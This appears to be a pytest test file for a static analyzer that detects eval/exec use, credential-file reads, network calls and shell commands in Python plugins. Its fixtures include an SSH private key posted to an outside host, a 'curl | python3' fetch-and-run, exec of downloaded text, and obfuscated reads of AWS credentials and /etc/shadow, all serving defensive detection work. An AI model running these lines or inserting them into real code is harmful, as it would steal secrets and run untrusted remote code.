"""What the evaluator makes of Python: names, wrappers, reflection, folding, flows."""

import pytest

from plugin_policy.capabilities.tables import Tables
from plugin_policy.capabilities.use import COMMAND, CONNECT, EVALUATE, READ
from plugin_policy.capabilities.uses import uses
from plugin_policy.readers.names import evaluate
from plugin_policy.text import Text

TABLES = Tables()


def found(*sources: str, paths: tuple[str, ...] = ("a.py", "b.py")):
    texts = [Text(path, source.encode(), "python") for path, source in zip(paths, sources, strict=False)]
    return uses(evaluate(texts, TABLES))


def facts(source: str, capability: str):
    return [(use.subject, use.via) for use in found(source) if use.capability == capability]


EVALUATING = (
    "eval(x)",
    "f = print\nf = eval\nf(x)",
    "if a:\n    f = print\nelse:\n    f = eval\nf(x)",
    "getattr(__builtins__, 'ev' + 'al')(x)",
    "globals()['__builtins__'].__dict__['ex' + 'ec'](x)",
    "__builtins__['eval'](x)",
    "vars(__import__('builtins'))['eval'](x)",
    "import builtins as b\nb.eval(x)",
    "from builtins import eval as e\ne(x)",
    "from builtins import *\nexec(x)",
    "import importlib\nimportlib.import_module('built' + 'ins').exec(x)",
    "list(map(eval, [x]))",
    "import functools\nfunctools.partial(eval, x)()",
    "(lambda g: g(x))(eval)",
    "def run(f, c):\n    return f(c)\nrun(eval, x)",
    "class A:\n    def __init__(self):\n        self.e = eval\n    def go(self, s):\n        return self.e(s)\n",
    "d = {'a': eval}\nd['a'](x)",
    "[eval][0](x)",
    "(e := eval)(x)",
    "eval.__call__(x)",
    "def f():\n    eval(x)\n",
    "eval(x)\ndef eval(s):\n    return s\n",
    "for f in (print, eval):\n    f(x)",
    "a, b = print, exec\nb(x)",
    "e = ''.join(chr(c) for c in [101, 118, 97, 108])\ngetattr(__builtins__, e)(x)",
    "exec 'print 1'",
    "def f(x: eval(y)): pass",
    "import threading\nthreading.Thread(target=eval, args=(x,)).start()",
)


@pytest.mark.parametrize("source", EVALUATING)
def test_evaluation_is_found(source):
    assert [via for _, via in facts(source, EVALUATE) if via in ("builtins.eval", "builtins.exec")]


HARMLESS = (
    "model.eval()",
    "import re\nre.compile('a').match(x)",
    "cursor.execute('select 1')",
    "def eval(x):\n    return x\neval(y)",
    "import ast\nast.literal_eval(x)",
    "from simpleeval import simple_eval as eval\neval(x)",
    "class A:\n    def eval(self, x): return x\nA().eval(1)",
    "import json\njson.loads(x)",
    "# eval(x)\ns = 'eval(x)'",
    "eval = print\neval(x)",
)


@pytest.mark.parametrize("source", HARMLESS)
def test_lookalikes_are_not(source):
    assert facts(source, EVALUATE) == []


def test_files_import_each_other():
    both = found("from b import run\nrun(input())", "def run(c):\n    eval(c)\n")
    [use] = [use for use in both if use.capability == EVALUATE]
    assert (use.text.path, use.origins) == ("b.py", {"input"})


def test_origins():
    cases = {
        "eval('1')": {"constant"},
        "import requests\nexec(requests.get(u).text)": {"network"},
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))": {"constant", "decoded"},
        "import sys\neval(sys.argv[1])": {"input"},
        "import os\neval(os.environ['X'])": {"environment"},
        "def f(x):\n    eval(x)": {"parameter"},
        "exec(open('x').read())": {"file"},
    }
    for source, origins in cases.items():
        [use] = [use for use in found(source) if use.capability == EVALUATE]
        assert use.origins == origins, source


def test_flows_reach_the_connection():
    source = """import os, requests
k = open(os.path.expanduser('~/.ssh/id_rsa')).read()
requests.post('https://h.io/', data={'k': k})"""
    [use] = [use for use in found(source) if use.capability == CONNECT]
    assert use.subject == "h.io"
    assert use.detail["flows"] == ["read:~/.ssh/id_rsa"]


@pytest.mark.parametrize(
    ("source", "path"),
    [
        ("open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))", "~/.aws/credentials"),
        ("(Path.home() / '.netrc').read_text()", "~/.netrc"),
        ("open(f\"{os.environ['HOME']}/.npmrc\")", "~/.npmrc"),
        ("open('~/.ssh/id_%s' % 'rsa')", "~/.ssh/id_rsa"),
        ("open('{}/{}'.format('/etc', 'shadow'))", "/etc/shadow"),
        ("open('crhsab./~'[::-1])", "~/.bashrc"),
        ("open(Path(__file__).parent / 'x.txt')", "${CLAUDE_PLUGIN_ROOT}/x.txt"),
    ],
)
def test_paths_fold(source, path):
    assert (path, READ) in [
        (use.subject, use.capability) for use in found("import os\nfrom pathlib import Path\n" + source)
    ]


def test_programs_are_read_again():
    source = "import subprocess\nsubprocess.run(['bash', '-c', 'curl https://h.io/x | python3'])"
    assert [subject for subject, _ in facts(source, COMMAND)] == ["bash", "curl", "python3"]
    assert ("h.io", "curl") in facts(source, CONNECT)
    [use] = [use for use in found(source) if use.via == "python3 <"]
    assert use.origins == {"network"}
    assert use.text.span(use.start, use.end)[:2] == (2, 54)


def test_wrapper_hands_its_parameter_on():
    source = "import os\ndef sh(c):\n    os.system(c)\nsh('ls -l')\nsh('git status')\n"
    assert {subject for subject, _ in facts(source, COMMAND)} == {"ls", "git"}


def test_depth_does_not_blind():
    deep = "x = " + "[" * 3000 + "eval(y)" + "]" * 3000 + "\n" + "z = " + "'a' + " * 3000 + "'b'\neval(z)"
    assert len(facts(deep, EVALUATE)) == 2
